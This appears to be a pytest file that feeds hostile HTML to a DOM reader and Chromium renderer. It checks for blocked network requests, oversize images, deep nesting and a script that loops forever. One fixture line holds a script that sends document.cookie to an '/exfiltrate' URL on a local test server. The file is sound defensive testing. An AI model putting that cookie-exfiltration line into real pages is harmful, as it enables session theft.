"""Hostile HTML through the DOM reader and the renderer: scripts, external URLs, a 50 MB inline
image, a DOM nested 10,000 deep. No request leaves the machine (a local server and an external
URL see nothing), time is bounded, the result is a clear error or a loss-report entry."""

from __future__ import annotations

import base64
import io
import time
from pathlib import Path

import pytest

from ace_core.browser import BrowserSession
from ace_core.errors import RenderError
from adapters.html.dom_reader import read_dom
from backends.render.chromium import render_html
from tests.conftest import needs_chromium
from tests.hostile_server import CountingServer

pytestmark = [needs_chromium, pytest.mark.render]


def _features(deck) -> set[str]:  # type: ignore[no-untyped-def]
    return {e.feature for e in deck.report.entries}


def test_scripts_and_external_urls_never_reach_the_network(tmp_path: Path) -> None:
    with CountingServer() as server:
        url = server.url
        page = tmp_path / "hostile.html"
        page.write_text(
            f"""<html><head><link rel=stylesheet href="{url}/x.css">
            <link rel=stylesheet href="https://cdn.jsdelivr.net/npm/tailwindcss/dist/tailwind.min.css">
            <style>.b {{ background-image: url({url}/bg.png); width: 200px; height: 100px; }}</style></head>
            <body style="width:1280px;height:720px;margin:0">
            <h1>Title</h1><div class=b></div><img src="{url}/pixel.png"><iframe src="{url}/frame"></iframe>
            <script>fetch('{url}/exfiltrate?c=' + document.cookie); document.body.innerHTML = 'pwned'</script>
            </body></html>"""
        )
        deck = read_dom(page)
        render_html(page, tmp_path / "png")
        js_deck = read_dom(page, javascript=True)  # even with page JavaScript on
        assert server.requests == []
        assert server.connections == 0
    texts = [n.text.plain_text for n in deck.slides[0].children if getattr(n, "text", None)]
    assert "Title" in texts and "pwned" not in " ".join(texts)
    reasons = " ".join(e.reason for e in deck.report.entries if e.feature == "blocked-request")
    assert f"{url}/x.css" in reasons and "cdn.jsdelivr.net" in reasons and f"{url}/pixel.png" in reasons
    assert "missing-image" in _features(deck)
    blocked_js = " ".join(e.reason for e in js_deck.report.entries if e.feature == "blocked-request")
    assert "/exfiltrate" in blocked_js


def test_a_50_mb_inline_image_is_reported_not_read(tmp_path: Path) -> None:
    from PIL import Image

    raw = bytes(4096 * 4096 * 3)
    buf = io.BytesIO()  # a real 50 MB PNG (stored, not compressed)
    Image.frombytes("RGB", (4096, 4096), raw).save(buf, format="PNG", compress_level=0)
    assert buf.tell() > 50_000_000
    page = tmp_path / "huge.html"
    with open(page, "wb") as fh:
        fh.write(b"<html><body style='width:1280px;height:720px;margin:0'><p>caption</p>")
        fh.write(b"<img style='width:200px' src='data:image/png;base64,")
        fh.write(base64.b64encode(buf.getvalue()))
        fh.write(b"'></body></html>")
    del raw, buf
    t0 = time.monotonic()
    deck = read_dom(page, timeout=60)
    assert time.monotonic() - t0 < 90
    assert "image-too-large" in _features(deck)
    assert not [n for n in deck.slides[0].children if n.type == "IMAGE"]
    assert any(getattr(n, "text", None) and n.text.plain_text == "caption" for n in deck.slides[0].children)


def test_a_dom_nested_10000_deep_is_bounded(tmp_path: Path) -> None:
    page = tmp_path / "deep.html"
    page.write_text(
        "<html><body style='width:1280px;height:720px;margin:0'><p>top</p>"
        + "<div style='padding-left:0'>" * 10_000
        + "deep text"
        + "</div>" * 10_000
        + "</body></html>"
    )
    t0 = time.monotonic()
    deck = read_dom(page, timeout=60)
    assert time.monotonic() - t0 < 60
    assert "dom-too-deep" in _features(deck)
    texts = [n.text.plain_text for n in deck.slides[0].children if getattr(n, "text", None)]
    assert "top" in texts
    assert render_html(page, tmp_path / "png").paths


def test_a_page_whose_script_never_ends_is_a_clear_error(tmp_path: Path) -> None:
    page = tmp_path / "loop.html"
    page.write_text("<html><body><p>x</p><script>while (true) {}</script></body></html>")
    deck = read_dom(page)  # JavaScript off: the loop never runs
    assert deck.slides
    session = BrowserSession(timeout=3)
    try:
        t0 = time.monotonic()
        with pytest.raises(RenderError) as err:
            read_dom(page, session=session, javascript=True)
        assert time.monotonic() - t0 < 30
        assert "3 s" in err.value.message
    finally:
        session.close()
